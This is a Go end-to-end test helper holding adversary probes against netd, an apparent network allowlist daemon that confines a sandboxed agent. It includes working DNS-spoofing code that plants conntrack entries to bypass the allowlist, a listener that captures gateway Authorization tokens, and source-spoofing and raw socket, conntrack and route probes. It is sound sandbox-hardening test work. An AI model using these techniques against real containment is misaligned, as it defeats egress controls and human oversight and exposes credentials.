//go:build e2e

package main

import (
	"bufio"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"os"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"github.com/miekg/dns"
)

// The adversary's tools against the network namespace it shares with netd: answering what netd
// asks, planting conntrack state, binding netd's addresses, and the sockets a process without
// capabilities may or may not open. Each prints one JSON line like the other probes; ok means
// the attack got what it wanted.

const nsUsage = `       claude net spoof-dns ANSWER SECONDS [ADDR…]      bind each ADDR (default 127.0.0.11:53 and 127.0.0.11:0),
                                                    spray 127.0.0.1's ephemeral ports from it to plant conntrack
                                                    entries, answer every DNS query that arrives with ANSWER
       claude net capture ADDR:PORT SECONDS            accept TCP connections, report what they sent (Authorization?)
       claude net bind ADDR:PORT [udp|tcp] [reuse]     whether this process may bind there (reuse: SO_REUSEADDR+PORT)
       claude net send-from SRC:PORT DST:PORT          one UDP datagram from SRC (IP_FREEBIND for a foreign SRC)
       claude net socket raw-icmp|raw-tcp|raw-udp|packet|ct-dump|ct-events|route-add
                                                    open what a capability would be needed for
       claude net hold ADDR:PORT SECONDS MARKER        keep a TCP echo going; touch MARKER once connected`

// nsProbe runs one of the namespace probes, or reports that args are not one.
func nsProbe(args []string) (map[string]any, bool) {
	switch args[0] {
	case "spoof-dns":
		return spoofDNS(args[1:]), true
	case "capture":
		return capture(args[1:]), true
	case "bind":
		return bindProbe(args[1:]), true
	case "send-from":
		return sendFrom(args[1:]), true
	case "socket":
		return socketProbe(args[1:]), true
	case "hold":
		return hold(args[1:]), true
	}
	return ns2Probe(args)
}

// ephemeral is the namespace's default ip_local_port_range, where netd's queries come from.
const ephemeralLo, ephemeralHi = 32768, 60999

// spoofDNS is the attack that once voided the allowlist: bound to Docker's resolver address, it
// sends a datagram to every ephemeral port of 127.0.0.1, so that each creates a conntrack entry
// whose reply direction is exactly a query netd might later send to 127.0.0.11:53 — a query
// that then skips Docker's DNAT, passes as "established", and arrives here, to be answered with
// an address of the attacker's choosing.
func spoofDNS(args []string) map[string]any {
	if len(args) < 2 {
		return map[string]any{"ok": false, "error": "need ANSWER SECONDS [ADDR…]"}
	}
	answer := net.ParseIP(args[0]).To4()
	secs, err := strconv.Atoi(args[1])
	if answer == nil || err != nil {
		return map[string]any{"ok": false, "error": "ANSWER must be an IPv4 address and SECONDS a number"}
	}
	addrs := args[2:]
	if len(addrs) == 0 {
		addrs = []string{"127.0.0.11:53", "127.0.0.11:0"}
	}
	res := map[string]any{"ok": false}
	var conns []*net.UDPConn
	var bound, refused []string
	for _, a := range addrs {
		ua, err := net.ResolveUDPAddr("udp4", a)
		if err != nil {
			refused = append(refused, a+": "+err.Error())
			continue
		}
		c, err := net.ListenUDP("udp4", ua)
		if err != nil {
			refused = append(refused, a+": "+err.Error())
			continue
		}
		conns = append(conns, c)
		bound = append(bound, c.LocalAddr().String())
	}
	res["bound"], res["bind_refused"] = bound, refused
	if len(conns) == 0 {
		return res
	}
	var sent, sendErrs atomic.Int64
	var firstErr atomic.Value
	var mu sync.Mutex
	var queries []string
	deadline := time.Now().Add(time.Duration(secs) * time.Second)
	var wg sync.WaitGroup
	for _, c := range conns {
		wg.Add(2)
		go func() { // answer whatever arrives
			defer wg.Done()
			buf := make([]byte, 4096)
			for {
				c.SetReadDeadline(deadline)
				n, from, err := c.ReadFromUDP(buf)
				if err != nil {
					return
				}
				q := new(dns.Msg)
				if q.Unpack(buf[:n]) != nil || len(q.Question) != 1 {
					continue
				}
				mu.Lock()
				queries = append(queries, strings.TrimSuffix(q.Question[0].Name, "."))
				mu.Unlock()
				m := new(dns.Msg)
				m.SetReply(q)
				m.Answer = append(m.Answer, &dns.A{Hdr: dns.RR_Header{Name: q.Question[0].Name, Rrtype: dns.TypeA, Class: dns.ClassINET, Ttl: 300}, A: answer})
				if b, err := m.Pack(); err == nil {
					c.WriteToUDP(b, from)
				}
			}
		}()
		go func() { // keep the planted entries fresh (unreplied UDP entries live 30 s)
			defer wg.Done()
			for time.Now().Before(deadline) {
				for p := ephemeralLo; p <= ephemeralHi; p++ {
					_, err := c.WriteToUDP([]byte{0}, &net.UDPAddr{IP: net.IPv4(127, 0, 0, 1), Port: p})
					if err != nil {
						sendErrs.Add(1)
						firstErr.CompareAndSwap(nil, err.Error())
					} else {
						sent.Add(1)
					}
				}
				time.Sleep(time.Second)
			}
		}()
	}
	wg.Wait()
	for _, c := range conns {
		c.Close()
	}
	res["sent"], res["send_errors"], res["queries"] = sent.Load(), sendErrs.Load(), queries
	if e := firstErr.Load(); e != nil {
		res["first_send_error"] = e
	}
	res["ok"] = len(queries) > 0
	return res
}

// capture listens on ADDR for SECONDS and reports every connection: ok when one arrived, with
// whether an Authorization header came with it (a stolen gateway token).
func capture(args []string) map[string]any {
	if len(args) < 2 {
		return map[string]any{"ok": false, "error": "need ADDR:PORT SECONDS"}
	}
	secs, _ := strconv.Atoi(args[1])
	ln, err := net.Listen("tcp4", args[0])
	if err != nil {
		return failed(err)
	}
	defer ln.Close()
	deadline := time.Now().Add(time.Duration(secs) * time.Second)
	ln.(*net.TCPListener).SetDeadline(deadline)
	conns, auth := 0, false
	for {
		c, err := ln.Accept()
		if err != nil {
			break
		}
		conns++
		c.SetReadDeadline(time.Now().Add(2 * time.Second))
		buf := make([]byte, 8192)
		n, _ := c.Read(buf)
		if strings.Contains(strings.ToLower(string(buf[:n])), "authorization:") {
			auth = true
		}
		c.Close()
	}
	return map[string]any{"ok": conns > 0, "conns": conns, "authorization": auth}
}

// hold connects to an echo server and keeps a line going back and forth every 200 ms for
// SECONDS: ok when the connection lasted, else when it broke. MARKER is created once the
// connection is up, so a test can act on the established flow.
func hold(args []string) map[string]any {
	if len(args) < 3 {
		return map[string]any{"ok": false, "error": "need ADDR:PORT SECONDS MARKER"}
	}
	c, err := net.DialTimeout("tcp4", args[0], 5*time.Second)
	if err != nil {
		return failed(err)
	}
	defer c.Close()
	secs, _ := strconv.Atoi(args[1])
	return holdEcho(c, bufio.NewReader(c), secs, args[2])
}

// holdEcho reads the echo server's banner on c (read through r), creates marker, and keeps a
// line going back and forth every 200 ms for secs seconds, as [hold] reports it.
func holdEcho(c net.Conn, r *bufio.Reader, secs int, marker string) map[string]any {
	c.SetReadDeadline(time.Now().Add(5 * time.Second))
	if _, err := r.ReadString('\n'); err != nil { // the banner
		return failed(fmt.Errorf("banner: %w", err))
	}
	start := time.Now()
	if f, err := os.Create(marker); err == nil {
		f.Close()
	}
	rounds := 0
	for time.Since(start) < time.Duration(secs)*time.Second {
		c.SetDeadline(time.Now().Add(3 * time.Second))
		if _, err := fmt.Fprintf(c, "round %d\n", rounds); err != nil {
			return map[string]any{"ok": false, "error": err.Error(), "rounds": rounds, "broke_after_s": time.Since(start).Seconds()}
		}
		if _, err := r.ReadString('\n'); err != nil {
			return map[string]any{"ok": false, "error": err.Error(), "rounds": rounds, "broke_after_s": time.Since(start).Seconds()}
		}
		rounds++
		time.Sleep(200 * time.Millisecond)
	}
	return map[string]any{"ok": true, "rounds": rounds}
}

// bindProbe reports whether ADDR:PORT can be bound (udp, the default, or tcp).
func bindProbe(args []string) map[string]any {
	if len(args) < 1 {
		return map[string]any{"ok": false, "error": "need ADDR:PORT"}
	}
	var err error
	lc := net.ListenConfig{}
	if len(args) > 2 && args[2] == "reuse" { // share the port, as SO_REUSEPORT allows a same-uid group
		lc.Control = func(_, _ string, c syscall.RawConn) error {
			var serr error
			c.Control(func(fd uintptr) {
				serr = errors.Join(syscall.SetsockoptInt(int(fd), syscall.SOL_SOCKET, syscall.SO_REUSEADDR, 1),
					syscall.SetsockoptInt(int(fd), syscall.SOL_SOCKET, soReusePort, 1))
			})
			return serr
		}
	}
	ctx := context.Background()
	if len(args) > 1 && args[1] == "tcp" {
		var ln net.Listener
		if ln, err = lc.Listen(ctx, "tcp4", args[0]); err == nil {
			ln.Close()
		}
	} else {
		var pc net.PacketConn
		if pc, err = lc.ListenPacket(ctx, "udp4", args[0]); err == nil {
			pc.Close()
		}
	}
	if err != nil {
		return failed(err)
	}
	return map[string]any{"ok": true}
}

// sendFrom sends one UDP datagram from SRC (bound with IP_FREEBIND, which needs no capability,
// so a foreign source address can at least be bound) to DST: ok when the kernel sent it.
func sendFrom(args []string) map[string]any {
	if len(args) < 2 {
		return map[string]any{"ok": false, "error": "need SRC:PORT DST:PORT"}
	}
	src, err1 := net.ResolveUDPAddr("udp4", args[0])
	dst, err2 := net.ResolveUDPAddr("udp4", args[1])
	if err := errors.Join(err1, err2); err != nil {
		return failed(err)
	}
	fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_DGRAM, 0)
	if err != nil {
		return failed(err)
	}
	defer syscall.Close(fd)
	const ipFreebind = 15
	if err := syscall.SetsockoptInt(fd, syscall.IPPROTO_IP, ipFreebind, 1); err != nil {
		return failed(fmt.Errorf("IP_FREEBIND: %w", err))
	}
	if err := syscall.Bind(fd, sockaddr(src)); err != nil {
		return failed(fmt.Errorf("bind %s: %w", src, err))
	}
	if err := syscall.Sendto(fd, []byte("spoof"), 0, sockaddr(dst)); err != nil {
		return failed(fmt.Errorf("sendto %s: %w", dst, err))
	}
	return map[string]any{"ok": true}
}

// soReusePort is SO_REUSEPORT on Linux.
const soReusePort = 15

func sockaddr(a *net.UDPAddr) *syscall.SockaddrInet4 {
	sa := &syscall.SockaddrInet4{Port: a.Port}
	copy(sa.Addr[:], a.IP.To4())
	return sa
}

// socketProbe tries one kind of socket or netlink operation that needs a capability: ok when
// the kernel allowed it.
func socketProbe(args []string) map[string]any {
	if len(args) < 1 {
		return map[string]any{"ok": false, "error": "need a kind"}
	}
	var err error
	switch args[0] {
	case "raw-icmp":
		err = openClose(syscall.AF_INET, syscall.SOCK_RAW, syscall.IPPROTO_ICMP)
	case "raw-tcp":
		err = openClose(syscall.AF_INET, syscall.SOCK_RAW, syscall.IPPROTO_TCP)
	case "raw-udp":
		err = openClose(syscall.AF_INET, syscall.SOCK_RAW, syscall.IPPROTO_UDP)
	case "packet":
		err = openClose(syscall.AF_PACKET, syscall.SOCK_RAW, int(htons(syscall.ETH_P_ALL)))
	case "ct-dump":
		err = netlinkRequest(nfnlConntrack, ctnlGet, syscall.NLM_F_REQUEST|syscall.NLM_F_DUMP|syscall.NLM_F_ACK, 0)
	case "ct-events":
		err = netlinkRequest(nfnlConntrack, 0, 0, nfnlgrpConntrackNew|nfnlgrpConntrackUpdate)
	case "route-add":
		err = routeAdd()
	default:
		return map[string]any{"ok": false, "error": "unknown kind " + args[0]}
	}
	if err != nil {
		return failed(err)
	}
	return map[string]any{"ok": true}
}

func openClose(domain, typ, proto int) error {
	fd, err := syscall.Socket(domain, typ, proto)
	if err != nil {
		return err
	}
	return syscall.Close(fd)
}

func htons(v uint16) uint16 { return v<<8 | v>>8 }

// Netlink constants of nfnetlink's conntrack subsystem.
const (
	netlinkNetfilter       = 12
	nfnlConntrack          = 1 // NFNL_SUBSYS_CTNETLINK
	ctnlGet                = 1 // IPCTNL_MSG_CT_GET
	nfnlgrpConntrackNew    = 1 << 0
	nfnlgrpConntrackUpdate = 1 << 1
)

// netlinkRequest opens NETLINK_NETFILTER, joins groups if any (conntrack events), and, for a
// message type, sends the request and reads the kernel's acknowledgement: nil only when the
// kernel let this process see conntrack.
func netlinkRequest(subsys, msg uint16, flags uint16, groups uint32) error {
	fd, err := syscall.Socket(syscall.AF_NETLINK, syscall.SOCK_RAW, netlinkNetfilter)
	if err != nil {
		return fmt.Errorf("socket: %w", err)
	}
	defer syscall.Close(fd)
	if err := syscall.Bind(fd, &syscall.SockaddrNetlink{Family: syscall.AF_NETLINK, Groups: groups}); err != nil {
		return fmt.Errorf("bind groups %#x: %w", groups, err)
	}
	if groups != 0 && flags == 0 {
		return nil // joined the event groups: conntrack events would arrive
	}
	// nlmsghdr (16) + nfgenmsg (4): family AF_INET, version 0, res_id 0.
	b := make([]byte, 20)
	binary.LittleEndian.PutUint32(b[0:], 20)
	binary.LittleEndian.PutUint16(b[4:], subsys<<8|msg)
	binary.LittleEndian.PutUint16(b[6:], flags)
	binary.LittleEndian.PutUint32(b[8:], 1)
	b[16] = syscall.AF_INET
	if err := syscall.Sendto(fd, b, 0, &syscall.SockaddrNetlink{Family: syscall.AF_NETLINK}); err != nil {
		return fmt.Errorf("send: %w", err)
	}
	return readAck(fd)
}

// readAck reads netlink replies until an error message (0 is success) or a dump's first data.
func readAck(fd int) error {
	buf := make([]byte, 65536)
	syscall.SetsockoptTimeval(fd, syscall.SOL_SOCKET, syscall.SO_RCVTIMEO, &syscall.Timeval{Sec: 3})
	n, _, err := syscall.Recvfrom(fd, buf, 0)
	if err != nil {
		return fmt.Errorf("recv: %w", err)
	}
	msgs, err := syscall.ParseNetlinkMessage(buf[:n])
	if err != nil || len(msgs) == 0 {
		return fmt.Errorf("parsing the reply: %v", err)
	}
	if m := msgs[0]; m.Header.Type == syscall.NLMSG_ERROR && len(m.Data) >= 4 {
		if code := int32(binary.LittleEndian.Uint32(m.Data)); code != 0 {
			return fmt.Errorf("kernel: %w", syscall.Errno(-code))
		}
	}
	return nil // an ack of 0, or data: the kernel answered the request
}

// routeAdd asks NETLINK_ROUTE for a blackhole route to 192.0.2.0/24 in the main table: the
// kernel must refuse it without CAP_NET_ADMIN (no packet is ever sent).
func routeAdd() error {
	fd, err := syscall.Socket(syscall.AF_NETLINK, syscall.SOCK_RAW, syscall.NETLINK_ROUTE)
	if err != nil {
		return err
	}
	defer syscall.Close(fd)
	// nlmsghdr (16) + rtmsg (12) + RTA_DST (8).
	b := make([]byte, 36)
	binary.LittleEndian.PutUint32(b[0:], 36)
	binary.LittleEndian.PutUint16(b[4:], syscall.RTM_NEWROUTE)
	binary.LittleEndian.PutUint16(b[6:], syscall.NLM_F_REQUEST|syscall.NLM_F_ACK|syscall.NLM_F_CREATE|syscall.NLM_F_EXCL)
	binary.LittleEndian.PutUint32(b[8:], 1)
	b[16], b[17] = syscall.AF_INET, 24 // family, dst_len
	b[20], b[21], b[22], b[23] = syscall.RT_TABLE_MAIN, syscall.RTPROT_STATIC, syscall.RT_SCOPE_UNIVERSE, syscall.RTN_BLACKHOLE
	binary.LittleEndian.PutUint16(b[28:], 8)
	binary.LittleEndian.PutUint16(b[30:], syscall.RTA_DST)
	copy(b[32:], []byte{192, 0, 2, 0})
	if err := syscall.Sendto(fd, b, 0, &syscall.SockaddrNetlink{Family: syscall.AF_NETLINK}); err != nil {
		return err
	}
	return readAck(fd)
}
